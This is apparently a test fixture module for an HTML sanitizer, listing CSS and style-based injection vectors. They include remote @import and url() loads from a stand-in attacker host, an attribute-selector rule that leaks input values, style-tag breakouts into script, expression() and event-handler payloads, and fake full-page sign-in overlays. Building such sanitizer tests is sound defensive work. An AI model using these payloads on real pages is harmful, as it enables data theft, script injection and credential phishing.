// @ts-check
/** Style sheets, styles and classes: what loads, what covers the page, what reads it. */
import { EVIL, RUN, SCRIPT, combined, vectors } from './vector.mjs';

/** Properties that load what their address names. */
const PROPERTIES = {
  background: 'background:%',
  'list-style': 'display:list-item;list-style:%',
  'border-image': 'border:9px solid;border-image:% 9',
  mask: 'mask:%',
  shape: 'float:left;shape-outside:%;width:9px;height:9px',
};
/** Ways to write the address. */
const WRITINGS = {
  plain: `url(${EVIL}/css)`,
  quoted: `url('${EVIL}/css')`,
  'with an escape': `u\\72l(${EVIL}/css)`,
  'as a set': `image-set('${EVIL}/css' 1x)`,
};

const more = vectors({
  'sheet that imports': `<style>@import "${EVIL}/i.css";</style>`,
  'sheet that imports by an address': `<style>@import url(${EVIL}/i.css);</style>`,
  'sheet in capitals': `<STYLE>@IMPORT "${EVIL}/i.css";</STYLE>`,
  'sheet with a type': `<style type="text/css" media=all>@import "${EVIL}/i.css";</style>`,
  'sheet that is linked': `<link rel=stylesheet href="${EVIL}/l.css">`,
  'sheet of data': `<link rel=stylesheet href="data:text/css,@import '${EVIL}/d.css'">`,
  'sheet in a header': `<link rel="alternate stylesheet" title=x href="${EVIL}/a.css">`,
  'sheet that hides': '<style>body{display:none!important}</style>',
  'sheet that covers': '<style>main::before{content:"Sign in";position:fixed;inset:0;background:#fff;z-index:9999}</style>',
  'sheet that reads': `<style>input[value^=a]{background:url(${EVIL}/a)}a[href*=article]{background:url(${EVIL}/r)}</style>`,
  'sheet with a font': `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)}p{font-family:x}</style>`,
  'sheet with a name space': `<style>@namespace "${EVIL}";@charset "utf-7";p{color:red}</style>`,
  'sheet that imports late': `<style>p{background:url(${EVIL}/late)}</style>`,
  'sheet that ends early': `<style></style><script>${RUN}</script></style>`,
  'sheet without an end': `<style>p{background:url(${EVIL}/open)}`,
  'sheet with a comment': `<style>/*</style><script>${RUN}</script>*/</style>`,
  'sheet with an expression': `<style>p{width:expression(${RUN})}</style>`,
  'sheet with a binding': `<style>p{-moz-binding:url(${EVIL}/x.xml#x);behavior:url(${EVIL}/x.htc)}</style>`,
  'sheet with a handler': `<style onload="${RUN}"></style>`,
  'linked sheet that fails': `<link rel=stylesheet href=x onerror="${RUN}" onload="${RUN}">`,
  'sheet of a print': `<style media=print>@import "${EVIL}/p.css"</style>`,
  'sheet in a paragraph': `<p><style>p{background:url(${EVIL}/p)}</style>x</p>`,
  'sheet in a list': `<ul><style>li{background:url(${EVIL}/l)}</style><li>x</ul>`,
  'style that covers': '<p style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended.</p>',
  'style that covers a link': '<a href="https://evil.example/login" style="position:fixed;inset:0;display:block">x</a>',
  'style of a picture': `<img src=x style="background:url(${EVIL}/i)">`,
  'style of a cell': `<table style="background:url(${EVIL}/t)"><tr style="background:url(${EVIL}/r)"><td style="background:url(${EVIL}/c)">x</table>`,
  'style with an expression': `<p style="width:expression(${RUN})">x</p>`,
  'style with a script': `<p style="background:url('${SCRIPT}')">x</p>`,
  'style with references': `<p style="background:&#117;rl(${EVIL}/e)">x</p>`,
  'style with a comment': `<p style="back/**/ground:x;background:u/**/rl(x);background:url(${EVIL}/k)">x</p>`,
  'style with a variable': `<p style="--x:url(${EVIL}/v);background:var(--x)">x</p>`,
  'style that is quoted': `<p style='background:url("${EVIL}/q")'>x</p>`,
  'style in capitals': `<p STYLE="BACKGROUND:URL(${EVIL}/u)">x</p>`,
  'style that counts': '<p style="counter-reset:x;content:counter(x);animation:spin 1s infinite">x</p>',
  'style of a heading': '<h2 style="position:absolute;top:0">x</h2>',
  'class of the panel': '<div class="recovery wrap"><h1>The page cannot go on</h1><p>Sign in again.</p></div>',
  'class of the panel, on a paragraph': '<p class="evil recovery">x</p>',
  'class of a quotation': '<blockquote class="evil twitter-tweet"><p>x</p></blockquote>',
  'class of a figure': '<figure class="evil pullquote"><blockquote><p>x</p></blockquote></figure>',
  'class of a list': '<ul class="evil"><li class="recovery">x</ul>',
  'old attributes': `<body background="${EVIL}/b" bgcolor=red text=red link=red><font face="x" color=red size=7>x</font><center>y</center>`,
  'old attributes of a table': `<table background="${EVIL}/tb" border=1 width=100%><tr background="${EVIL}/tr"><td background="${EVIL}/td" height=9999>x</table>`,
});

/** @type {import('./vector.mjs').Family} */
export default { name: 'CSS', vectors: [...combined(PROPERTIES, WRITINGS, (property, writing) => `<p style="${property.replace('%', writing)}">x</p>`), ...more], runs: 40, shows: 62 };
